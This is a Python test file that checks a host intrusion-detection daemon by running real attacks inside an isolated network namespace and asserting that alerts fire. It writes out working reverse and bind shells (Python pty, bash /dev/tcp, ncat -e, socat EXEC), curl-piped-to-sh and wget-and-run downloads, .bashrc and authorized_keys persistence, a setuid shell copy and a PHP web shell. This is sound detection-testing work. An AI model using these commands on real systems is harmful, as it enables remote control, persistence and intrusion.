"""Attack techniques performed for real against the real daemon (issue 17), one per test.

One ``vedette run`` for the module (process collector with kernel audit exec facts, sockets
sampled every second, every shipped rule). Network parts run inside a network namespace the
test creates, with 198.18.0.0/15 addresses on its loopback and no route out; listeners the
sockets collector must see are bound to the host's 127.0.0.1 only. Every process is stopped by
PID and every file, user and namespace is removed in ``finally`` blocks, also on failure.
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from conftest import REPO, AgentProcess, base_config, deep_merge, free_port

from tests.host.attack_lab import (
    ATTACKER,
    LOW,
    RULE_IDS,
    VICTIM,
    Procs,
    alerts_of,
    first_seen,
    need,
    wait_alert,
    wait_port,
    wait_relay,
)

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (namespaces, audit)")


@pytest.fixture(scope="module")
def agent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AgentProcess]:
    workdir = tmp_path_factory.mktemp("attacks")
    port = free_port()
    config = deep_merge(base_config(workdir, port), {
        "process": {"enabled": True, "fallback_polling": False, "cpu_sampling": False},
        "sockets": {"enabled": True, "interval_seconds": 1.0, "include_loopback": True},
        "fim": {"enabled": True, "rescan_interval_seconds": 3600},
        "auth_logs": {"enabled": False},
        "web_logs": {"enabled": True, "paths": [str(workdir / "access.log")],
                     "poll_interval_seconds": 0.2},
        "auditd": {"enabled": False},
        "kernel_modules": {"enabled": False},
        "detection": {"rule_paths": [str(REPO / "rules")]},
    })
    (workdir / "access.log").touch()
    proc = AgentProcess(workdir, config, port).start()
    try:
        proc.wait_for(lambda: proc.sample("vedette_process_exec_source", {"source": "audit"})
                      == 1.0, 15, "audit exec facts active")
        proc.wait_for(lambda: (proc.sample("vedette_fim_files") or 0) > 0, 60, "FIM baseline")
        time.sleep(1)  # inotify armed after the baseline
        yield proc
    finally:
        with contextlib.suppress(Exception):
            proc.stop()
        proc.kill()


# -- shells ---------------------------------------------------------------------------------

def test_python_pty_reverse_shell(agent: AgentProcess, netns: str, procs: Procs) -> None:
    need("ncat")
    t0 = time.time()
    port = 4000 + secrets.randbelow(2000)
    listener = procs.spawn("ncat", "-n", "-l", ATTACKER, str(port), ns=netns,
                           stdin=subprocess.PIPE)
    wait_port(netns, ATTACKER, port)
    code = (f"import socket,os,pty;s=socket.socket();s.connect(({ATTACKER!r},{port}));"
            "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('/bin/sh')")
    victim = procs.spawn("python3", "-c", code, ns=netns)
    wait_relay(agent, victim.pid, t0)
    wait_alert(agent, "interpreter_reverse_shell", t0)
    assert listener.stdin is not None
    listener.stdin.close()


def test_ncat_exec_bind_shell(agent: AgentProcess, netns: str, procs: Procs) -> None:
    need("ncat")
    t0 = time.time()
    port = 4000 + secrets.randbelow(2000)
    server = procs.spawn("ncat", "-n", "-l", VICTIM, str(port), "-e", "/bin/sh", ns=netns)
    wait_port(netns, VICTIM, port)
    client = procs.spawn("ncat", "-n", VICTIM, str(port), ns=netns, stdin=subprocess.PIPE)
    assert client.stdin is not None
    client.stdin.write(b"id\n")
    client.stdin.flush()
    wait_relay(agent, server.pid, t0)


def test_socat_exec_bind_shell(agent: AgentProcess, netns: str, procs: Procs) -> None:
    need("socat", "ncat")
    t0 = time.time()
    port = 4000 + secrets.randbelow(2000)
    server = procs.spawn("socat", f"TCP-LISTEN:{port},bind={VICTIM},reuseaddr", "EXEC:/bin/sh",
                         ns=netns)
    wait_port(netns, VICTIM, port)
    client = procs.spawn("ncat", "-n", VICTIM, str(port), ns=netns, stdin=subprocess.PIPE)
    assert client.stdin is not None
    client.stdin.write(b"id\n")
    client.stdin.flush()
    wait_relay(agent, server.pid, t0)


def test_one_reverse_shell_with_children_is_one_alert(agent: AgentProcess, netns: str,
                                                       procs: Procs) -> None:
    need("ncat", "bash")
    t0 = time.time()
    port = 4000 + secrets.randbelow(2000)
    listener = procs.spawn("ncat", "-n", "-l", ATTACKER, str(port), ns=netns,
                           stdin=subprocess.PIPE)
    wait_port(netns, ATTACKER, port)
    procs.spawn("bash", "-c", f"bash -i >& /dev/tcp/{ATTACKER}/{port} 0>&1", ns=netns)
    assert listener.stdin is not None
    listener.stdin.write(b"sh -c 'id'; sh -c 'uname -a'; sh -c 'hostname'\n")
    listener.stdin.flush()
    wait_alert(agent, "reverse_shell_socket_stdio", t0)
    time.sleep(3)  # the children's execs arrive; they must fold into the same alert
    shells = alerts_of(agent, "reverse_shell_socket_stdio", t0)
    assert len({a["event"]["id"] for a in shells}) == 1, [a["vedette"]["group"] for a in shells]


def test_plain_ncat_listener_is_no_bind_shell_but_one_with_exec_is(
        agent: AgentProcess, procs: Procs) -> None:
    need("ncat")
    t0 = time.time()
    plain, with_exec = free_port(), free_port()
    procs.spawn("ncat", "-n", "-lk", "127.0.0.1", str(plain))
    procs.spawn("ncat", "-n", "-lk", "127.0.0.1", str(with_exec), "-e", "/bin/cat")
    wait_port(None, "127.0.0.1", plain)
    wait_port(None, "127.0.0.1", with_exec)
    wait_alert(agent, "shell_listening", t0)
    wait_port(None, "127.0.0.1", plain)
    time.sleep(2)  # two more socket samples
    ports = {a["vedette"]["group"].get("server.port")
             for a in alerts_of(agent, "shell_listening", t0)}
    assert with_exec in ports and plain not in ports, ports


def test_repeated_reverse_shells_are_each_an_alert_never_suppressed(
        agent: AgentProcess, netns: str, procs: Procs) -> None:
    """Three reverse shells of one user in a row: three alerts (issue 17: a cooldown grouped by
    user dropped the later ones, visible only in vedette_alerts_suppressed_total)."""
    need("ncat", "bash")
    t0 = time.time()
    rid = RULE_IDS["reverse_shell_socket_stdio"]
    dropped = {"rule": rid, "reason": "dropped"}  # ("coalesced": updates of an open alert)
    dropped_before = agent.sample("vedette_alerts_suppressed_total", dropped) or 0.0
    for _ in range(3):
        port = 4000 + secrets.randbelow(2000)
        listener = procs.spawn("ncat", "-n", "-l", ATTACKER, str(port), ns=netns,
                               stdin=subprocess.PIPE)
        wait_port(netns, ATTACKER, port)
        shell = procs.spawn("bash", "-c", f"bash -i >& /dev/tcp/{ATTACKER}/{port} 0>&1",
                            ns=netns)
        seen = len(alerts_of(agent, "reverse_shell_socket_stdio", t0))
        agent.wait_for(lambda n=seen: len(alerts_of(agent, "reverse_shell_socket_stdio", t0))
                       > n, 15, "a new reverse-shell alert")
        assert listener.stdin is not None
        listener.stdin.close()
        shell.wait(10)
    ids = {a["event"]["id"] for a in alerts_of(agent, "reverse_shell_socket_stdio", t0)}
    assert len(ids) == 3
    assert (agent.sample("vedette_alerts_suppressed_total", dropped) or 0.0) == dropped_before


# -- exec facts of a program that lives a millisecond ---------------------------------------

def test_a_program_run_once_from_tmp_is_seen_with_its_argv(agent: AgentProcess,
                                                           tmp_path: Path) -> None:
    """A binary that exits at once (before /proc/PID could be read): its executable and argv
    come from the kernel's audit records. Dropped (copied) there: high; built there: low."""
    need("gcc")
    build = tmp_path / "build"
    build.mkdir()
    (build / "quick.c").write_text("int main(void) { return 0; }\n")
    subprocess.run(["gcc", "-o", str(build / "quick"), str(build / "quick.c")], check=True,
                   timeout=120, capture_output=True)
    dropped = tmp_path / "drop" / "quick"
    dropped.parent.mkdir()
    shutil.copy(build / "quick", dropped)
    token = f"--token={secrets.token_hex(4)}"
    t0 = time.time()
    subprocess.run([str(dropped), token, "once"], check=True, timeout=10)
    subprocess.run([str(build / "quick"), token, "built"], check=True, timeout=10)

    def run_once(rule: str, exe: Path, arg: str) -> bool:
        return any(a["vedette"]["group"].get("process.executable") == str(exe)
                   and a["vedette"]["matched"].get("process.command_line")
                   == f"{exe} {token} {arg}" for a in alerts_of(agent, rule, t0))
    agent.wait_for(lambda: run_once("exec_from_writable_dir", dropped, "once"), 15,
                   "exec_from_writable_dir with the full command line")
    agent.wait_for(lambda: run_once("exec_built_in_writable_dir", build / "quick", "built"), 15,
                   "exec_built_in_writable_dir (low) with the full command line")


# -- downloads executed ---------------------------------------------------------------------

@pytest.fixture
def web(netns: str, procs: Procs, tmp_path: Path) -> tuple[str, Path]:
    """A plain HTTP server on the attacker address inside the namespace."""
    root = tmp_path / "srv"
    root.mkdir()
    port = 4000 + secrets.randbelow(2000)
    procs.spawn(sys.executable, "-m", "http.server", "--bind", ATTACKER, "--directory",
                str(root), str(port), ns=netns)
    wait_port(netns, ATTACKER, port)
    return f"http://{ATTACKER}:{port}", root


def test_curl_piped_into_sh(agent: AgentProcess, netns: str, web: tuple[str, Path],
                            procs: Procs) -> None:
    need("curl")
    base, root = web
    (root / "x.sh").write_text("echo pwned >/dev/null\n")
    t0 = time.time()
    run = procs.spawn("sh", "-c", f"curl -s {base}/x.sh | sh", ns=netns)
    assert run.wait(20) == 0
    wait_alert(agent, "download_piped_to_interpreter", t0)


def test_wget_chmod_and_run_a_script(agent: AgentProcess, netns: str, web: tuple[str, Path],
                                     procs: Procs, tmp_path: Path) -> None:
    need("wget")
    base, root = web
    (root / "x").write_text("#!/bin/sh\necho pwned >/dev/null\n")
    target = tmp_path / "drop" / "x"  # under /tmp: pytest's temporary directory
    target.parent.mkdir()
    assert str(target).startswith("/tmp/")
    t0 = time.time()
    run = procs.spawn("sh", "-c", f"wget -q -O {target} {base}/x && chmod +x {target} && "
                      f"{target}", ns=netns)
    assert run.wait(20) == 0
    agent.wait_for(lambda: any(a["vedette"]["group"].get("vedette.download.path")
                               == str(target)
                               for a in alerts_of(agent, "download_then_execute", t0)),
                   15, "download_then_execute for the dropped file")


def test_binary_deleted_while_running(agent: AgentProcess, procs: Procs,
                                      tmp_path: Path) -> None:
    binary = tmp_path / "kworker-x"
    shutil.copy("/bin/sleep", binary)
    t0 = time.time()
    procs.spawn(str(binary), "60")
    time.sleep(0.3)
    binary.unlink()
    agent.wait_for(lambda: any(a["vedette"]["group"].get("process.executable") == str(binary)
                               for a in alerts_of(agent, "running_executable_deleted", t0)),
                   25, "running_executable_deleted")


# -- accounts, setuid, web shells -----------------------------------------------------------

def test_useradd_then_persistence_in_the_new_home(agent: AgentProcess) -> None:
    need("useradd", "userdel")
    user = f"vdt{os.getpid() % 100000}{secrets.token_hex(2)}"
    t0 = time.time()
    subprocess.run(["useradd", "-m", "-s", "/bin/sh", user], check=True, timeout=30)
    try:
        wait_alert(agent, "new_user_account", t0)
        home = Path(f"/home/{user}")
        time.sleep(1.5)  # the passwd change is read and the new home watched
        with (home / ".bashrc").open("a") as fh:
            fh.write("curl -s http://198.18.0.1/x | sh\n")
        ssh = home / ".ssh"
        ssh.mkdir(mode=0o700)
        (ssh / "authorized_keys").write_text("ssh-ed25519 AAAAC3Nza attacker\n")
        agent.wait_for(lambda: any(a["vedette"]["group"].get("file.path") == f"{home}/.bashrc"
                                   for a in alerts_of(agent, "shell_profile_modified", t0)),
                       15, "the new user's .bashrc change")
        agent.wait_for(lambda: any(
            a["vedette"]["group"].get("file.path") == f"{home}/.ssh/authorized_keys"
            for a in alerts_of(agent, "ssh_authorized_keys_modified", t0)), 15,
            "authorized_keys")
    finally:
        subprocess.run(["userdel", "-r", "-f", user], check=False, timeout=30,
                       capture_output=True)


def test_chmod_setuid_on_a_copied_shell(agent: AgentProcess, tmp_path: Path) -> None:
    copy = tmp_path / "sh"
    shutil.copy("/bin/dash", copy)
    t0 = time.time()
    subprocess.run(["chmod", "u+s", str(copy)], check=True, timeout=10)
    wait_alert(agent, "setuid_bit_set", t0)


def test_web_shell_dropped_and_used(agent: AgentProcess) -> None:
    created_www = not Path("/var/www").exists()
    site = Path("/var/www") / f"vdt-{os.getpid() % 100000}{secrets.token_hex(2)}"
    t0 = time.time()
    try:
        site.mkdir(parents=True)
        (site / "shell.php").write_text("<?php system($_GET['cmd']); ?>\n")
        agent.wait_for(lambda: any(a["vedette"]["group"].get("file.path") ==
                                   f"{site}/shell.php"
                                   for a in alerts_of(agent, "web_shell_file_created", t0)),
                       15, "web_shell_file_created")
        stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
        with (agent.workdir / "access.log").open("a") as fh:
            fh.write(f'198.18.0.20 - - [{stamp}] "GET /{site.name}/shell.php?cmd=id HTTP/1.1" '
                     '200 54 "-" "curl/7.88.1"\n')
        wait_alert(agent, "web_shell_request", t0 - 5)
    finally:
        shutil.rmtree(site, ignore_errors=True)
        if created_www:
            shutil.rmtree("/var/www", ignore_errors=True)


# -- benign counterparts: nothing above low -------------------------------------------------

def _tiny_deb(workdir: Path, name: str) -> Path:
    pkg = workdir / name
    (pkg / "DEBIAN").mkdir(parents=True)
    (pkg / "DEBIAN" / "control").write_text(
        f"Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@example.org>\n"
        "Description: vedette test package\n")
    unit_dir = pkg / "usr" / "lib" / "systemd" / "system"
    unit_dir.mkdir(parents=True)
    for i in range(3):
        (unit_dir / f"{name}-{i}.service").write_text(
            "[Unit]\nDescription=test\n[Service]\nExecStart=/bin/true\n")
    subprocess.run(["dpkg-deb", "--build", str(pkg), str(workdir / f"{name}.deb")],
                   check=True, capture_output=True, timeout=60)
    return workdir / f"{name}.deb"


def test_benign_admin_and_developer_work_raises_nothing_above_low(
        agent: AgentProcess, tmp_path: Path) -> None:
    need("gcc", "tar", "dpkg-deb", "dpkg", "apt-get", "logrotate")
    marker = f"vdtb{os.getpid() % 100000}{secrets.token_hex(2)}"
    work = tmp_path / marker
    build = work / "home" / "dev" / "build"
    build.mkdir(parents=True)
    t0 = time.time()
    # a developer compiling and running a program in a build dir under /tmp
    (build / "hello.c").write_text('#include <stdio.h>\nint main(void){puts("hi");return 0;}\n')
    subprocess.run(["gcc", "-o", str(build / "hello"), str(build / "hello.c")], check=True,
                   timeout=120, cwd=build)
    subprocess.run([str(build / "hello")], check=True, timeout=10, capture_output=True)
    # a backup of /etc
    subprocess.run(["tar", "czf", str(work / "etc-backup.tgz"), "-C", "/", "etc"],
                   check=False, timeout=120, capture_output=True)
    # logrotate of an application log with its own state file
    log = work / "app.log"
    log.write_text("line\n" * 100)
    conf = work / "logrotate.conf"
    conf.write_text(f"{log} {{\n  rotate 2\n  compress\n  missingok\n}}\n")
    subprocess.run(["logrotate", "-f", "-s", str(work / "state"), str(conf)], check=True,
                   timeout=60)
    assert (work / "app.log.1.gz").exists()
    # a package with three systemd units installed and removed with apt (a local .deb without
    # dependencies: nothing is downloaded, no index update)
    name = f"{marker}-pkg"
    deb = _tiny_deb(work, name)
    apt_env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
    try:
        subprocess.run(["apt-get", "install", "-y", "-q", str(deb)],
                       check=True, capture_output=True, timeout=300, env=apt_env)
        time.sleep(2)
    finally:
        subprocess.run(["apt-get", "purge", "-y", "-q", name], check=False,
                       capture_output=True, timeout=300, env=apt_env)
        subprocess.run(["dpkg", "--purge", name], check=False, capture_output=True,
                       timeout=120)
    time.sleep(3)
    ours = [a for a in agent.alerts() if first_seen(a) >= t0
            and a.get("event", {}).get("severity", 0) > LOW
            and (marker in json.dumps(a) or "/usr/lib/systemd/system/" in json.dumps(a))]
    assert ours == [], [(a["rule"]["name"], a["vedette"]["group"]) for a in ours]
    folded = [a for a in alerts_of(agent, "package_transaction_files", t0)]
    assert folded, "the package's units are reported once, as low"
